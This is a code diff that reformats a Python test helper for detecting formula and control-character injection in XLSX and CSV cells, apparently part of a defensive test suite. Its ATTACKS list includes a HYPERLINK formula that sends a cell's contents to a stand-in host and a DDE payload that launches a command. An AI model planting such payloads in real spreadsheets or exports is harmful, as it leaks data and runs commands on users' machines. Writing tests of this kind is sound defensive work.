@@ -25,8 +25,13 @@ def _live(value) -> bool:
 def live_xlsx_cells(path) -> list[str]:
     """`sheet!A1 value` for every cell that is a formula, would start one, or holds a control character."""
     book = load_workbook(path)  # full mode: data_type is read from the file
-    found = [f"{ws.title}!{c.coordinate} {c.value!r}" for ws in book.worksheets for row in ws.iter_rows()
-             for c in row if c.data_type == "f" or _live(c.value)]
+    found = [
+        f"{ws.title}!{c.coordinate} {c.value!r}"
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f" or _live(c.value)
+    ]
     return found
 
 
@@ -36,9 +41,20 @@ def xlsx_texts(path) -> set[str]:
 
 
 def live_csv_cells(text: str, delimiter: str = ",") -> list[str]:
-    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row
-            if _live(cell)]
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
+        for cell in row
+        if _live(cell)
+    ]
 
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?x="&B2,"Cliquez ici")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)",
-           "-2+3", "\tTAB=1+1", "Dupont\x00\x1b[31m"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?x="&B2,"Cliquez ici")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1)",
+    "-2+3",
+    "\tTAB=1+1",
+    "Dupont\x00\x1b[31m",
+]
